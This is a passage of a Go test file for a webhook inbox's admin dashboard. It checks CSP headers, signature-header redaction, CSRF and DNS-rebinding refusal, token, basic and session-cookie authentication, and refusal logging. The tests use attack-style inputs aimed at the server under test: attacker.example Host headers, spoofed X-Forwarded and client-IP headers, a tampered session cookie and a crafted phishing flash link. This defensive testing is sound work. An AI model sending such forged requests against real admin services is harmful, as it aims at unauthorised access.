package ferryhttp_test

import (
	"context"
	"database/sql"
	"encoding/base64"
	"errors"
	"fmt"
	"html"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/ferry-inbox/ferry"
	"github.com/ferry-inbox/ferry/ferryhttp"
	"github.com/ferry-inbox/ferry/internal/testhttp"
	"github.com/ferry-inbox/ferry/internal/testlog"
	"github.com/ferry-inbox/ferry/sqlite"
)

type dashBundle struct {
	store  *sqlite.Store
	path   string // the store's file
	admin  *ferryhttp.Admin
	server *httptest.Server
	ids    map[string]int64
	logs   *testlog.Buffer
}

// setupDashboard seeds a SQLite store and serves a dashboard and a
// /metrics stand-in through an Admin made of admin, on loopback:
//
//	stripe/evt_dead  dead, with a Stripe-Signature-like header that must be redacted
//	stripe/evt_old   pending, received 70h ago: at risk (60h)
//	github/gh_1      pending; its body replayed once as github/gh_forged
func setupDashboard(t *testing.T, opts ferryhttp.DashboardOptions, admin ferryhttp.AdminOptions) *dashBundle {
	t.Helper()
	ctx := context.Background()
	path := filepath.Join(t.TempDir(), "ferry.db")
	old, err := sqlite.Open(path, &sqlite.Config{Now: func() time.Time { return time.Now().Add(-70 * time.Hour) }})
	if err != nil {
		t.Fatal(err)
	}
	if err := old.Migrate(ctx); err != nil {
		t.Fatal(err)
	}
	b := &dashBundle{path: path, ids: map[string]int64{}, logs: &testlog.Buffer{}}
	receive := func(s *sqlite.Store, source, id string, h http.Header) {
		res, err := s.EventReceive(ctx, &ferry.EventReceiveParams{Source: source, EventID: id, Type: "invoice.paid",
			Payload: []byte(`{"id":"` + id + `","customer":{"name":"Ada"}}`), Headers: h})
		if err != nil {
			t.Fatal(err)
		}
		b.ids[id] = res.ID
	}
	receive(old, "stripe", "evt_old", nil)
	old.Close()

	b.store, err = sqlite.Open(path, nil)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { b.store.Close() })
	receive(b.store, "stripe", "evt_dead", http.Header{"Content-Type": {"application/json"}, "X-Custom-Signature": {"sha256=deadbeef"}})
	receive(b.store, "github", "gh_1", nil)
	if res, err := b.store.EventReceive(ctx, &ferry.EventReceiveParams{Source: "github", EventID: "gh_forged", Type: "delete",
		Payload: []byte(`{"id":"gh_1","customer":{"name":"Ada"}}`), ReplayWindow: 72 * time.Hour}); err != nil || res.Outcome != ferry.ReceiveReplay {
		t.Fatalf("seed replay = %+v, %v", res, err)
	}
	claims, err := b.store.EventClaimMany(ctx, &ferry.EventClaimManyParams{Owner: "seed", Limit: 10, TTL: time.Minute, Sources: []string{"stripe"}})
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range claims {
		if c.Event.EventID == "evt_dead" {
			_, err = b.store.EventFail(ctx, &ferry.EventFailParams{Lease: c.Event.Lease(), Error: "card declined", Dead: true})
		} else {
			err = b.store.EventRelease(ctx, &ferry.EventReleaseParams{Lease: c.Event.Lease()})
		}
		if err != nil {
			t.Fatal(err)
		}
	}

	log := slog.New(slog.NewTextHandler(b.logs, nil))
	opts.Store = b.store
	opts.Logger = log
	opts.AtRiskAfter = map[string]time.Duration{"stripe": 60 * time.Hour, "github": 60 * time.Hour}
	d, err := ferryhttp.NewDashboard(opts)
	if err != nil {
		t.Fatal(err)
	}
	admin.Dashboard, admin.Logger = d, log
	admin.Metrics = http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { io.WriteString(w, "ferry_up 1\n") })
	a, err := ferryhttp.NewAdmin(admin)
	if err != nil {
		t.Fatal(err)
	}
	b.admin, b.server = a, httptest.NewServer(a)
	t.Cleanup(b.server.Close)
	return b
}

// forward runs a client on store, polling every poll, that hands the shop
// source's events to fwd, until the test ends.
func forward(t *testing.T, store ferry.Store, fwd *ferryhttp.Forwarder, poll time.Duration) {
	t.Helper()
	client, err := ferry.NewClient(&ferry.Config{Store: store, PollInterval: poll, Logger: slog.New(slog.NewTextHandler(io.Discard, nil))})
	if err != nil {
		t.Fatal(err)
	}
	client.Handle("shop", fwd.Handle)
	if err := client.Start(context.Background()); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { client.Stop(context.Background()) })
}

func newReq(t *testing.T, method, url string, body io.Reader) *http.Request {
	t.Helper()
	req, err := http.NewRequest(method, url, body)
	if err != nil {
		t.Fatal(err)
	}
	return req
}

// TestAdminConstructorsRefuseWithErrInvalidParams: NewDashboard and
// NewAdmin refuse what NewReceiver and NewForwarder would, the same way, a
// typed nil store included (it would panic at the first request).
func TestAdminConstructorsRefuseWithErrInvalidParams(t *testing.T) {
	t.Parallel()
	var typedNil *sqlite.Store
	st, err := sqlite.Open(filepath.Join(t.TempDir(), "ferry.db"), nil)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	for name, build := range map[string]func() error{
		"dashboard with an empty runnable source": func() error { // every replay would fail on it
			_, err := ferryhttp.NewDashboard(ferryhttp.DashboardOptions{Store: st, Runnable: []string{"stripe", ""}})
			return err
		},
		"dashboard without a store": func() error { _, err := ferryhttp.NewDashboard(ferryhttp.DashboardOptions{}); return err },
		"dashboard on a typed nil store": func() error {
			_, err := ferryhttp.NewDashboard(ferryhttp.DashboardOptions{Store: typedNil})
			return err
		},
		"admin with a user, no password": func() error { _, err := ferryhttp.NewAdmin(ferryhttp.AdminOptions{User: "ops"}); return err },
		"admin with a public URL not http": func() error {
			_, err := ferryhttp.NewAdmin(ferryhttp.AdminOptions{PublicURL: "ftp://ops.example"})
			return err
		},
	} {
		if err := build(); !errors.Is(err, ferry.ErrInvalidParams) {
			t.Errorf("%s: err = %v, want ErrInvalidParams", name, err)
		}
	}
}

func TestDashboardPages(t *testing.T) {
	t.Parallel()
	b := setupDashboard(t, ferryhttp.DashboardOptions{PageSize: 2}, ferryhttp.AdminOptions{})

	// Every page carries the headers docs/security.md lists, a refusal too.
	for _, path := range []string{"/ui/", "/ui/?state=dead", "/ui/?state=nonsense"} {
		res, err := http.Get(b.server.URL + path)
		if err != nil {
			t.Fatal(err)
		}
		res.Body.Close()
		for name, want := range map[string]string{
			"Content-Security-Policy": "default-src 'none'; script-src 'self'; connect-src 'self'; style-src 'self'; img-src 'self'; form-action 'self'; frame-ancestors 'none'; base-uri 'none'",
			"X-Content-Type-Options":  "nosniff",
			"Referrer-Policy":         "no-referrer",
			"Cache-Control":           "no-store",
		} {
			if got := res.Header.Get(name); got != want {
				t.Errorf("%s (%d): %s = %q, want %q", path, res.StatusCode, name, got, want)
			}
		}
	}

	code, body := testhttp.Get(t, b.server.URL+"/ui/")
	if code != 200 {
		t.Fatalf("overview: %d %s", code, body)
	}
	atRisk, rest, _ := strings.Cut(body, `id="counts"`)
	if !strings.Contains(atRisk, "evt_old") || strings.Contains(atRisk, "evt_dead") {
		t.Errorf("the at-risk section must list evt_old, and only it:\n%s", atRisk)
	}
	// At-risk events are unfinished: a pending one is retried now, as
	// replay refuses it ("already pending or running").
	if !strings.Contains(atRisk, "Retry now") || strings.Contains(atRisk, "then replay them") {
		t.Errorf("the at-risk section must send a pending event to Retry now, not to a replay it refuses:\n%s", atRisk)
	}
	if !strings.Contains(rest, `href="/ui/replay?source=stripe&amp;state=dead"`) || !strings.Contains(rest, "Replay 1 dead") {
		t.Errorf("overview lacks the bulk replay link of the dead:\n%s", rest)
	}

	_, body = testhttp.Get(t, b.server.URL+"/ui/?state=dead")
	_, table, _ := strings.Cut(body, `id="event-table"`)
	if !strings.Contains(table, "evt_dead") || strings.Contains(table, "gh_1") {
		t.Errorf("state=dead filter:\n%s", table)
	}
	_, body = testhttp.Get(t, b.server.URL+"/ui/?q=gh_")
	if _, table, _ = strings.Cut(body, `id="event-table"`); !strings.Contains(table, "gh_1") || strings.Contains(table, "evt_dead") {
		t.Errorf("q=gh_ filter:\n%s", table)
	}

	if code, _ := testhttp.Get(t, b.server.URL+"/ui/?q=%ff"); code != http.StatusBadRequest {
		t.Errorf("a filter no stored id matches (not UTF-8): %d, want 400", code)
	}
	for _, path := range []string{"/ui/?state=bogus", "/ui/replay?source=stripe&state=bogus"} {
		if code, body := testhttp.Get(t, b.server.URL+path); code != http.StatusBadRequest || !strings.Contains(body, "unknown state") {
			t.Errorf("%s (a state that is none): %d, want 400 naming the unknown state", path, code)
		}
	}

	code, body = testhttp.Get(t, b.server.URL+"/ui/events/"+itoa(b.ids["evt_dead"]))
	if code != 200 {
		t.Fatalf("event page: %d", code)
	}
	for _, want := range []string{"card declined", "&#34;customer&#34;: {", "X-Custom-Signature", "redacted", `data-state="dead"`, `id="replay"`} {
		if !strings.Contains(body, want) {
			t.Errorf("event page lacks %q", want)
		}
	}
	if strings.Contains(body, "deadbeef") {
		t.Error("event page shows a signature header's value")
	}
	if strings.Contains(body, `id="replay-alert"`) || !strings.Contains(body, "No operator action.") {
		t.Error("event page of an event never replayed nor acted on shows a replay or an action")
	}
	_, body = testhttp.Get(t, b.server.URL+"/ui/events/"+itoa(b.ids["gh_1"]))
	_, replays, _ := strings.Cut(body, `id="replays"`)
	if !strings.Contains(body, `id="replay-alert"`) || !strings.Contains(replays, "gh_forged") || !strings.Contains(replays, "delete") {
		t.Errorf("event page of a replayed body does not flag and list the replay:\n%s", body)
	}
	if code, _ := testhttp.Get(t, b.server.URL+"/ui/events/999999"); code != 404 {
		t.Errorf("missing event: %d, want 404", code)
	}
}

// A generic HMAC source's signature header, named as its sender chose, is
// shown redacted when the dashboard's Redaction names it, as the CLI shows
// it; another source's header of that name is not a signature.
func TestDashboardRedactsASourcesOwnSignatureHeader(t *testing.T) {
	t.Parallel()
	b := setupDashboard(t, ferryhttp.DashboardOptions{Redaction: ferryhttp.Redaction{"partner": {"x-partner-check"}}}, ferryhttp.AdminOptions{})
	for _, source := range []string{"partner", "other"} {
		res, err := b.store.EventReceive(context.Background(), &ferry.EventReceiveParams{Source: source, EventID: "p_1", Payload: []byte(`{}`),
			Headers: http.Header{"X-Partner-Check": {"SEKRET-" + source}}})
		if err != nil {
			t.Fatal(err)
		}
		code, body := testhttp.Get(t, b.server.URL+"/ui/events/"+itoa(res.ID))
		if shown := strings.Contains(body, "SEKRET-"+source); code != 200 || shown != (source == "other") {
			t.Errorf("%s's event page: %d, shows the X-Partner-Check value: %v, want %v", source, code, shown, source == "other")
		}
	}
}

// A page shows only the messages its actions name by code: a crafted
// link cannot put words of its own on an operator's screen.
func TestDashboardFlashIsACode(t *testing.T) {
	t.Parallel()
	b := setupDashboard(t, ferryhttp.DashboardOptions{}, ferryhttp.AdminOptions{})
	const crafted = "Session+expired%3A+sign+in+again+at+evil.example"
	for _, path := range []string{"/ui/?flash=" + crafted, "/ui/events/" + itoa(b.ids["evt_dead"]) + "?flash=" + crafted} {
		if code, body := testhttp.Get(t, b.server.URL+path); code != 200 || strings.Contains(body, "evil.example") || strings.Contains(body, `id="flash"`) {
			t.Errorf("GET %s: %d, shows the link's text or a flash:\n%s", path, code, body)
		}
	}
	if _, body := testhttp.Get(t, b.server.URL+"/ui/?flash=replayed_many&n=3"); !strings.Contains(body, "replayed 3 events") {
		t.Errorf("a bulk replay's flash code does not show its message:\n%s", body)
	}
	// Nor as a value the dashboard refuses: the 400 says what is wrong
	// without repeating it.
	for _, path := range []string{"/ui/?state=" + crafted, "/ui/replay?state=" + crafted} {
		if code, body := testhttp.Get(t, b.server.URL+path); code != http.StatusBadRequest || strings.Contains(body, "evil.example") || !strings.Contains(body, "unknown state") {
			t.Errorf("GET %s: %d %q, want 400 naming the state, not the link's text", path, code, body)
		}
	}
}

func TestDashboardReplayAndCSRF(t *testing.T) {
	t.Parallel()
	b := setupDashboard(t, ferryhttp.DashboardOptions{}, ferryhttp.AdminOptions{})
	replay := b.server.URL + "/ui/events/" + itoa(b.ids["evt_dead"]) + "/replay"

	req := newReq(t, "POST", replay, nil)
	req.Header.Set("Sec-Fetch-Site", "cross-site")
	if code, _ := testhttp.Do(t, req); code != http.StatusForbidden {
		t.Errorf("cross-site POST: %d, want 403", code)
	}
	req = newReq(t, "POST", replay, nil)
	req.Header.Set("Origin", "https://evil.example")
	if code, _ := testhttp.Do(t, req); code != http.StatusForbidden {
		t.Errorf("cross-origin POST: %d, want 403", code)
	}
	e, _ := b.store.EventGet(context.Background(), &ferry.EventGetParams{ID: b.ids["evt_dead"]})
	if e.State != ferry.StateDead {
		t.Fatalf("a refused POST changed the event to %s", e.State)
	}

	// Replay runs the event's effect again: only with the box ticked (a
	// POST not from the page changes nothing).
	if body := postAction(t, b, b.ids["evt_dead"], "replay", ""); !strings.Contains(body, `id="replay-box" required`) || !strings.Contains(body, "not replayed: tick the box first") {
		t.Errorf("an unconfirmed replay:\n%s", body)
	}
	if e, _ := b.store.EventGet(context.Background(), &ferry.EventGetParams{ID: b.ids["evt_dead"]}); e.State != ferry.StateDead {
		t.Fatalf("an unconfirmed replay changed the event to %s", e.State)
	}
	body := postAction(t, b, b.ids["evt_dead"], "replay", "confirm=yes")
	if !strings.Contains(body, "replayed") || !strings.Contains(body, `data-state="pending"`) {
		t.Errorf("same-origin replay:\n%s", body)
	}
	// Who did it is kept with the event and on its page.
	if _, actions, _ := strings.Cut(body, `id="actions"`); !strings.Contains(actions, "<td>replay</td><td>anonymous</td>") {
		t.Errorf("the event page does not list the replay and its actor:\n%s", body)
	}
	// Without credentials the actor is "anonymous": anyone on loopback.
	if logs := b.logs.String(); !strings.Contains(logs, `msg="ferry: dashboard replay"`) || !strings.Contains(logs, "actor=anonymous") || strings.Contains(logs, "Ada") {
		t.Errorf("the replay's log line must name the actor and never the payload:\n%s", logs)
	}

	// upto past every event the test made.
	if code, body := postBulkReplay(t, b, "source=stripe&upto=1000000"); code != 200 || !strings.Contains(body, "replayed 0 events") {
		t.Errorf("bulk replay: %d\n%s", code, body)
	}
	if logs := b.logs.String(); !strings.Contains(logs, `msg="ferry: dashboard bulk replay" filter="source=stripe" replayed=0 actor=anonymous`) {
		t.Errorf("the bulk replay's log line must name the actor:\n%s", logs)
	}
	for _, path := range []string{"/ui/replay", "/ui/events/" + itoa(b.ids["gh_1"]) + "/retry", "/ui/events/" + itoa(b.ids["evt_dead"]) + "/resolve"} {
		req = newReq(t, "POST", b.server.URL+path, strings.NewReader("source=stripe&confirm=yes"))
		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		req.Header.Set("Sec-Fetch-Site", "cross-site")
		if code, _ := testhttp.Do(t, req); code != http.StatusForbidden {
			t.Errorf("cross-site POST %s: %d, want 403", path, code)
		}
	}
}

// A Dashboard mounted on a mux of its own, without Admin, refuses a
// cross-site POST by itself: Admin's checks are not its only guard.
func TestDashboardAloneRefusesCrossSitePosts(t *testing.T) {
	t.Parallel()
	b := setupDashboard(t, ferryhttp.DashboardOptions{}, ferryhttp.AdminOptions{})
	d, err := ferryhttp.NewDashboard(ferryhttp.DashboardOptions{Store: b.store})
	if err != nil {
		t.Fatal(err)
	}
	mux := http.NewServeMux()
	d.Register(mux)
	alone := httptest.NewServer(mux)
	defer alone.Close()
	for _, tc := range []struct {
		site string
		want int
	}{{"cross-site", http.StatusForbidden}, {"same-origin", http.StatusOK}} { // in this order: the second resolves it
		site, want := tc.site, tc.want
		req := newReq(t, "POST", alone.URL+"/ui/events/"+itoa(b.ids["evt_dead"])+"/resolve", strings.NewReader("confirm=yes"))
		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		req.Header.Set("Sec-Fetch-Site", site)
		if code, _ := testhttp.Do(t, req); code != want {
			t.Errorf("%s POST to a Dashboard without Admin: %d, want %d", site, code, want)
		}
		e, err := b.store.EventGet(context.Background(), &ferry.EventGetParams{ID: b.ids["evt_dead"]})
		if err != nil || (e.State == ferry.StateDone) != (site == "same-origin") {
			t.Fatalf("after the %s POST the event is %v (%v)", site, e.State, err)
		}
	}
}

// TestAdminRefusesRebinding: without credentials, a page on a DNS name that
// resolves to 127.0.0.1 cannot read the dashboard, nor can a proxy, whether
// it keeps PublicURL's Host or marks what it relays; an IP literal and
// localhost can.
func TestAdminRefusesRebinding(t *testing.T) {
	t.Parallel()
	b := setupDashboard(t, ferryhttp.DashboardOptions{}, ferryhttp.AdminOptions{PublicURL: "http://ferry-admin.internal:8081"})
	for host, want := range map[string]int{
		"attacker.example":            http.StatusForbidden,
		"attacker.example:8081":       http.StatusForbidden,
		"localhost:8081":              200,
		"127.0.0.1":                   200,
		"[::1]:8081":                  200,
		"ferry-admin.internal:8081":   http.StatusForbidden,
		"ferry-admin.internal.evil.x": http.StatusForbidden,
	} {
		req := newReq(t, "GET", b.server.URL+"/ui/events/"+itoa(b.ids["evt_dead"]), nil)
		req.Host = host
		code, body := testhttp.Do(t, req)
		if code != want {
			t.Errorf("Host %s: %d, want %d", host, code, want)
		}
		if want != 200 && strings.Contains(body, "Ada") {
			t.Errorf("Host %s: the payload leaked", host)
		}
	}
	// A proxy that rewrites Host to the listener's address still marks what
	// it relays; without credentials that is refused too.
	for _, h := range []string{
		"Forwarded", "X-Forwarded-For", "X-Forwarded-Host", "X-Forwarded-Proto", "X-Forwarded-Prefix", "Via",
		"X-Real-Ip", "X-Client-Ip", "True-Client-Ip", "Cf-Connecting-Ip", "Fastly-Client-Ip", "X-Cluster-Client-Ip",
	} {
		req := newReq(t, "GET", b.server.URL+"/ui/events/"+itoa(b.ids["evt_dead"]), nil)
		req.Header.Set(h, "127.0.0.1")
		if code, body := testhttp.Do(t, req); code != http.StatusForbidden || strings.Contains(body, "Ada") || !strings.Contains(body, h) {
			t.Errorf("relayed with %s: %d, want 403 naming it:\n%s", h, code, body)
		}
	}
}

// docs/security.md names every client-address header the credential-less
// admin refuses: the list is written twice, here and there.
func TestSecurityDocNamesTheRefusedHeaders(t *testing.T) {
	t.Parallel()
	doc, err := os.ReadFile("../docs/security.md")
	if err != nil {
		t.Fatal(err)
	}
	for _, h := range ferryhttp.ClientIPHeaders {
		if !strings.Contains(string(doc), "`"+h+"`") {
			t.Errorf("docs/security.md does not name %s, which the credential-less admin refuses", h)
		}
	}
}

// noRedirect is a client that shows redirects instead of following them.
var noRedirect = &http.Client{CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}

func do(t *testing.T, req *http.Request) *http.Response {
	t.Helper()
	res, err := noRedirect.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	io.Copy(io.Discard, res.Body)
	res.Body.Close()
	return res
}

// TestAdminAuth: with credentials, only a credential opens the admin
// listener: a bearer token, basic auth or the signed session cookie the
// login form issues. Loopback-looking Host, X-Forwarded-* and a loopback
// peer (this test's own) grant nothing.
func TestAdminAuth(t *testing.T) {
	t.Parallel()
	b := setupDashboard(t, ferryhttp.DashboardOptions{}, ferryhttp.AdminOptions{Token: "s3cret-token", TokenName: "ci-bot", User: "ops", Password: "pw"})
	event := b.server.URL + "/ui/events/" + itoa(b.ids["evt_dead"])
	forged := func(req *http.Request) *http.Request {
		req.Host = "127.0.0.1"
		req.Header.Set("X-Forwarded-For", "127.0.0.1")
		req.Header.Set("X-Forwarded-Host", "localhost")
		req.Header.Set("X-Real-Ip", "127.0.0.1")
		req.Header.Set("Forwarded", "for=127.0.0.1;host=localhost")
		return req
	}

	t.Run("Anonymous", func(t *testing.T) {
		for _, req := range []*http.Request{newReq(t, "GET", b.server.URL+"/ui/", nil), forged(newReq(t, "GET", event, nil))} {
			if res := do(t, req); res.StatusCode != http.StatusSeeOther || res.Header.Get("Location") != "/ui/login" {
				t.Errorf("GET %s (Host %s): %d %s, want 303 to /ui/login", req.URL.Path, req.Host, res.StatusCode, res.Header.Get("Location"))
			}
		}
		for _, req := range []*http.Request{newReq(t, "GET", b.server.URL+"/metrics", nil), forged(newReq(t, "GET", b.server.URL+"/metrics", nil))} {
			if res := do(t, req); res.StatusCode != http.StatusUnauthorized || !strings.HasPrefix(res.Header.Get("WWW-Authenticate"), "Basic ") {
				t.Errorf("GET /metrics: %d, want 401 with a Basic challenge", res.StatusCode)
			}
		}
		for _, action := range []string{"/replay", "/resolve"} {
			req := forged(newReq(t, "POST", event+action, strings.NewReader("confirm=yes")))
			req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
			req.Header.Set("Sec-Fetch-Site", "same-origin")
			if res := do(t, req); res.StatusCode != http.StatusUnauthorized {
				t.Errorf("anonymous %s: %d, want 401", action, res.StatusCode)
			}
		}
		if e, _ := b.store.EventGet(context.Background(), &ferry.EventGetParams{ID: b.ids["evt_dead"]}); e.State != ferry.StateDead {
			t.Fatalf("an anonymous POST changed the event to %s", e.State)
		}
	})

	t.Run("BearerAndBasic", func(t *testing.T) {
		for _, path := range []string{"/ui/", "/metrics"} {
			for _, scheme := range []string{"Bearer", "bearer"} { // the scheme's name is case-insensitive
				req := newReq(t, "GET", b.server.URL+path, nil)
				req.Header.Set("Authorization", scheme+" s3cret-token")
				if res := do(t, req); res.StatusCode != 200 {
					t.Errorf("%s %s: %d", scheme, path, res.StatusCode)
				}
			}
			req := newReq(t, "GET", b.server.URL+path, nil)
			req.SetBasicAuth("ops", "pw")
			if res := do(t, req); res.StatusCode != 200 {
				t.Errorf("basic %s: %d", path, res.StatusCode)
			}
		}
		for _, bad := range []func(*http.Request){
			func(r *http.Request) { r.Header.Set("Authorization", "Bearer s3cret") },
			func(r *http.Request) { r.Header.Set("Authorization", "Bearers3cret-token") },
			func(r *http.Request) { r.Header.Set("Authorization", "Token s3cret-token") },
			func(r *http.Request) { r.SetBasicAuth("ops", "wrong") },
			func(r *http.Request) { r.SetBasicAuth("ci-bot", "s3cret-token") },
		} {
			req := newReq(t, "GET", b.server.URL+"/metrics", nil)
			bad(req)
			if res := do(t, req); res.StatusCode != http.StatusUnauthorized {
				t.Errorf("wrong credential %q: %d, want 401", req.Header.Get("Authorization"), res.StatusCode)
			}
		}
	})

	login := func(t *testing.T, form url.Values) *http.Response {
		t.Helper()
		req := newReq(t, "POST", b.server.URL+"/ui/login", strings.NewReader(form.Encode()))
		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		req.Header.Set("Sec-Fetch-Site", "same-origin")
		return do(t, req)
	}

	t.Run("SessionLogout", func(t *testing.T) {
		res := login(t, url.Values{"token": {"s3cret-token"}})
		if res.StatusCode != http.StatusSeeOther || len(res.Cookies()) != 1 {
			t.Fatalf("login: %d %v", res.StatusCode, res.Cookies())
		}
		c := res.Cookies()[0]
		if !c.HttpOnly || c.SameSite != http.SameSiteStrictMode || c.Secure || c.MaxAge != int(ferryhttp.DefaultSessionTTL/time.Second) || c.Path != "/" {
			t.Errorf("session cookie attributes: %+v", c)
		}
		if strings.Contains(c.Value, "s3cret-token") || strings.Contains(c.Raw, "s3cret") {
			t.Fatalf("the cookie carries the token: %s", c.Raw)
		}
		// A POST is a form with its box ticked.
		withCookie := func(method, url string, c *http.Cookie) *http.Request {
			var form io.Reader
			if method == "POST" {
				form = strings.NewReader("confirm=yes")
			}
			req := newReq(t, method, url, form)
			req.AddCookie(c)
			req.Header.Set("Sec-Fetch-Site", "same-origin")
			if form != nil {
				req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
			}
			return req
		}
		if code, body := testhttp.Do(t, withCookie("GET", b.server.URL+"/ui/", c)); code != 200 || !strings.Contains(body, `id="actor">ci-bot<`) || !strings.Contains(body, `id="sign-out"`) {
			t.Errorf("session: %d, or the page does not say who is signed in:\n%s", code, body)
		}
		// The actor is inside the signature: naming another one breaks it.
		parts := strings.SplitN(c.Value, ".", 2)
		tampered := *c
		tampered.Value = base64.RawURLEncoding.EncodeToString([]byte("ops")) + "." + parts[1]
		if res := do(t, withCookie("GET", event, &tampered)); res.StatusCode != http.StatusSeeOther {
			t.Errorf("a cookie with another actor: %d, want 303 to the login", res.StatusCode)
		}

		if code, _ := testhttp.Do(t, withCookie("POST", event+"/replay", c)); code != 200 {
			t.Fatalf("replay with a session: %d", code)
		}
		if logs := b.logs.String(); !strings.Contains(logs, `msg="ferry: dashboard replay" id=`+itoa(b.ids["evt_dead"])+` replayed=1 actor=ci-bot source=stripe event_id=evt_dead`) {
			t.Errorf("the replay's log line must name the token's actor:\n%s", logs)
		}
		actions, err := b.store.ActionList(context.Background(), &ferry.ActionListParams{ID: b.ids["evt_dead"]})
		if err != nil || len(actions) != 1 || actions[0].Actor != "ci-bot" || actions[0].Action != ferry.ActionReplay {
			t.Errorf("stored actions = %+v, %v; want one replay by ci-bot", actions, err)
		}

		res = do(t, withCookie("POST", b.server.URL+"/ui/logout", c))
		if res.StatusCode != http.StatusSeeOther || len(res.Cookies()) != 1 || res.Cookies()[0].MaxAge >= 0 {
			t.Errorf("logout: %d %v, want the cookie cleared", res.StatusCode, res.Cookies())
		}
		// A copy of the cookie kept after logout opens nothing.
		if res := do(t, withCookie("GET", b.server.URL+"/ui/", c)); res.StatusCode != http.StatusSeeOther {
			t.Errorf("the cookie after logout: %d, want 303 to the login", res.StatusCode)
		}
		// Another session's logout, which sweeps expired revocations,
		// keeps this one's: it has not expired.
		other := login(t, url.Values{"token": {"s3cret-token"}}).Cookies()[0]
		do(t, withCookie("POST", b.server.URL+"/ui/logout", other))
		if res := do(t, withCookie("GET", b.server.URL+"/ui/", c)); res.StatusCode != http.StatusSeeOther {
			t.Errorf("the cookie after another session's logout: %d, want 303 to the login", res.StatusCode)
		}
	})

	t.Run("UserLogin", func(t *testing.T) {
		if res := login(t, url.Values{"user": {"ops"}, "password": {"nope-guess"}}); res.StatusCode != http.StatusUnauthorized || len(res.Cookies()) != 0 {
			t.Errorf("wrong password: %d %v", res.StatusCode, res.Cookies())
		}
		if logs := b.logs.String(); !strings.Contains(logs, "ferry: admin credentials refused") || strings.Contains(logs, "nope-guess") {
			t.Errorf("a refused login is logged without what was typed:\n%s", logs)
		}
		res := login(t, url.Values{"user": {"ops"}, "password": {"pw"}})
		if res.StatusCode != http.StatusSeeOther || len(res.Cookies()) != 1 {
			t.Fatalf("login: %d", res.StatusCode)
		}
		req := newReq(t, "GET", b.server.URL+"/ui/", nil)
		req.AddCookie(res.Cookies()[0])
		if code, body := testhttp.Do(t, req); code != 200 || !strings.Contains(body, `id="actor">ops<`) {
			t.Errorf("user session: %d\n%s", code, body)
		}
	})
}

// TestAdminSessionExpiresAndSecure: a session ends at its TTL on the
// Admin's clock, and its cookie is Secure when the public URL is https
// (however its scheme and host are written).
func TestAdminSessionExpiresAndSecure(t *testing.T) {
	t.Parallel()
	var now atomic.Pointer[time.Time]
	start := time.Now()
	now.Store(&start)
	b := setupDashboard(t, ferryhttp.DashboardOptions{}, ferryhttp.AdminOptions{
		Token: "s3cret-token", PublicURL: "HTTPS://Ferry-Admin.example.com", SessionTTL: time.Hour,
		Now: func() time.Time { return *now.Load() },
	})
	// A login form past the body limit is refused before it is read whole,
	// right token and all.
	req := newReq(t, "POST", b.server.URL+"/ui/login", strings.NewReader("pad="+strings.Repeat("a", 100<<10)+"&token=s3cret-token"))
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	if res := do(t, req); res.StatusCode != http.StatusRequestEntityTooLarge || len(res.Cookies()) != 0 {
		t.Errorf("a 100 KiB login form: %d %v, want 413 and no session", res.StatusCode, res.Cookies())
	}
	req = newReq(t, "POST", b.server.URL+"/ui/login", strings.NewReader("token=s3cret-token"))
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	req.Header.Set("Origin", "https://ferry-admin.example.com") // the trusted public origin, as a proxy forwards it
	res := do(t, req)
	if res.StatusCode != http.StatusSeeOther || len(res.Cookies()) != 1 {
		t.Fatalf("login: %d", res.StatusCode)
	}
	c := res.Cookies()[0]
	if !c.Secure || c.MaxAge != 3600 {
		t.Errorf("cookie behind https: Secure=%v MaxAge=%d, want Secure and 3600", c.Secure, c.MaxAge)
	}
	open := func() int {
		req := newReq(t, "GET", b.server.URL+"/ui/", nil)
		req.AddCookie(c)
		return do(t, req).StatusCode
	}
	if code := open(); code != 200 {
		t.Fatalf("fresh session: %d", code)
	}
	// A POST whose only proof of origin is the Origin header of the public
	// URL (a browser without Sec-Fetch-Site, through the proxy) is trusted.
	req = newReq(t, "POST", b.server.URL+"/ui/events/"+itoa(b.ids["evt_dead"])+"/replay", strings.NewReader("confirm=yes"))
	req.AddCookie(c)
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	req.Header.Set("Origin", "https://ferry-admin.example.com")
	if res := do(t, req); res.StatusCode != http.StatusSeeOther {
		t.Errorf("replay from the public origin: %d, want 303", res.StatusCode)
	}
	req = newReq(t, "POST", b.server.URL+"/ui/replay", strings.NewReader("source=stripe"))
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	req.AddCookie(c)
	req.Header.Set("Origin", "https://evil.example")
	if res := do(t, req); res.StatusCode != http.StatusForbidden {
		t.Errorf("replay from another origin: %d, want 403", res.StatusCode)
	}
	later := start.Add(time.Hour + time.Second)
	now.Store(&later)
	if code := open(); code != http.StatusSeeOther {
		t.Errorf("a session past its TTL: %d, want 303 to the login", code)
	}
}

// Wrong credentials, in a header or through the form, are logged at once,
// then once a window (a minute) with how many were refused in it; never
// what was sent. A request with no credential at all is no refusal.
func TestAdminRefusalsAreCountedInTheLog(t *testing.T) {
	t.Parallel()
	b := setupDashboard(t, ferryhttp.DashboardOptions{}, ferryhttp.AdminOptions{Token: "s3cret-token"})
	guess := func(method, path, token string, want int) {
		t.Helper()
		var req *http.Request
		if method == "POST" {
			req = newReq(t, method, b.server.URL+path, strings.NewReader("token="+token))
			req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		} else {
			req = newReq(t, method, b.server.URL+path, nil)
			req.Header.Set("Authorization", "Bearer "+token)
		}
		if res := do(t, req); res.StatusCode != want {
			t.Fatalf("%s %s with a wrong token: %d, want %d", method, path, res.StatusCode, want)
		}
	}
